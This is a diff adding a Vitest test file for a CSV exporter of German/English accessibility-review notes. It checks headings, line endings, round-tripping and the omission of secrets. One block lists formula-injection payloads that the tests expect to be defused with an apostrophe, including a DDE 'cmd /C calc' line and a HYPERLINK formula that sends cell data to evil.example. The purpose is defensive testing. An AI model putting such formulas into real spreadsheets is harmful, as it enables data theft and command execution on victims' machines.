@@ -1,0 +1,141 @@
+import fc from 'fast-check';
+import { describe, expect, it, test } from 'vitest';
+import { toExcelCsv } from '@/utils/formats';
+import { anyNote, noteWith, SECRET } from './notes';
+import { readCsv } from './read-csv';
+
+const HEADINGS_DE =
+  'Leistung;Adresse der Seite;Schritt;Art der Stelle;Wortlaut;Aspekte;Einschätzung;betrifft;Schweregrad;Kommentar;Vorschlag;Woche';
+const COMMENT = 9;
+
+function commentCell(comment: string): string | undefined {
+  return readCsv(toExcelCsv([noteWith({ comment })], { language: 'de' }).slice(1))[1]?.[COMMENT];
+}
+
+it('begins with a byte order mark and German headings, and ends every line with CRLF', () => {
+  expect(toExcelCsv([], { language: 'de' })).toBe(`\uFEFF${HEADINGS_DE}\r\n`);
+});
+
+it('has one note a line, in the language', () => {
+  const note = noteWith({
+    concerns: ['barrier-extra-effort', 'measure-transparency', 'eigener'],
+    rating: 'clear',
+    affected: 'both',
+    severity: 4,
+    comment: 'Zeile 1\nZeile "2"; Ende',
+    alternatives: { comment: ['anders'] },
+  });
+  const read = (language: 'de' | 'en') => readCsv(toExcelCsv([note], { language }).slice(1));
+  expect(read('de')[1]).toEqual([
+    'Wohngeld',
+    'https://portal.example/wohngeld',
+    'Schritt 3 von 6: Einkommen',
+    'Ganzer Schritt',
+    '',
+    'Mehraufwand, Transparenz, eigener',
+    'geprüft, ohne Befund',
+    'beide',
+    '4 verhindert den Antrag',
+    'Zeile 1\nZeile "2"; Ende\nanders',
+    '',
+    '2026-W47',
+  ]);
+  expect(read('en')[0]).toContain('Page address');
+  expect(read('en')[1]?.slice(5, 9)).toEqual([
+    'Extra effort, Transparency, eigener',
+    'checked, nothing found',
+    'both',
+    '4 prevents the application',
+  ]);
+});
+
+describe('what a spreadsheet would take for a formula', () => {
+  const attacks = [
+    '=1+1',
+    '+1',
+    '-2+3',
+    '@SUM(A1)',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?x="&A1,"hier")',
+    '  =1',
+    '\u00A0=1',
+    '\u200B=1',
+    '\uFEFF=1',
+    '\u0000=1',
+    '\u3164=1',
+    '\uD800=1',
+    '\t=1',
+    '\tText',
+    '\nText',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '﹦1',
+    '";=1+1;"',
+    '- Stichpunkt',
+  ];
+  test.each(attacks.filter((attack) => !attack.startsWith('"')))('%j stands with an apostrophe', (attack) => {
+    expect(commentCell(attack)).toBe(`'${attack}`);
+  });
+
+  test.each(['\rText', '\r\n=1'])('%j stands with an apostrophe and its line break as LF', (attack) => {
+    expect(commentCell(attack)).toBe(`'${attack.replace(/\r\n?/, '\n')}`);
+  });
+
+  test.each(['";=1+1;"', '"\r\n=1', 'a;=1', 'a,=1', "'=1", 'a=1', '„=1“', 'E-Mail', '1-2'])(
+    '%j stays in its cell',
+    (text) => {
+      expect(commentCell(text)).toBe(text.replace('\r\n', '\n'));
+    },
+  );
+
+  it('is defused in every column', () => {
+    const evil = '=1';
+    const note = noteWith({
+      concerns: [evil],
+      comment: evil,
+      suggestion: evil,
+      week: evil,
+      target: {
+        service: { key: evil, name: evil },
+        page: { key: evil, title: evil },
+        step: { key: evil, label: evil },
+        frame: evil,
+        selectors: [{ type: 'TextQuoteSelector', exact: evil }],
+      },
+    });
+    const cells = readCsv(toExcelCsv([note], { language: 'de' }).slice(1))[1] ?? [];
+    expect(cells.filter((cell) => cell === "'=1")).toHaveLength(8);
+    expect(cells).not.toContain(evil);
+  });
+});
+
+it('reads back cell by cell, whatever is written', () => {
+  fc.assert(
+    fc.property(fc.array(anyNote), fc.constantFrom('de', 'en'), (notes, language) => {
+      const file = toExcelCsv(notes, { language });
+      const kept = notes.filter((note) => !note.deleted);
+      const rows = readCsv(file.slice(1));
+      expect(rows).toHaveLength(kept.length + 1);
+      expect(rows.every((row) => row.length === 12)).toBe(true);
+      expect(rows.flat().some((cell) => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell))).toBe(false);
+      const comments = kept.map((note) =>
+        [note.comment, ...(note.alternatives.comment ?? [])].filter(Boolean).join('\n'),
+      );
+      expect(rows.slice(1).map((row) => row[COMMENT]?.replace(/^'/, ''))).toEqual(
+        comments.map((comment) => comment.replace(/\r\n?/g, '\n').replace(/^'/, '')),
+      );
+    }),
+  );
+});
+
+it('takes along neither voice nor day nor salt nor heads, and no deleted note', () => {
+  fc.assert(
+    fc.property(fc.array(anyNote), (notes) => {
+      expect(toExcelCsv(notes, { language: 'de' })).not.toContain(SECRET);
+    }),
+  );
+  const gone = noteWith({ comment: 'weg', deleted: true });
+  expect(toExcelCsv([gone], { language: 'de' })).toBe(`\uFEFF${HEADINGS_DE}\r\n`);
+});
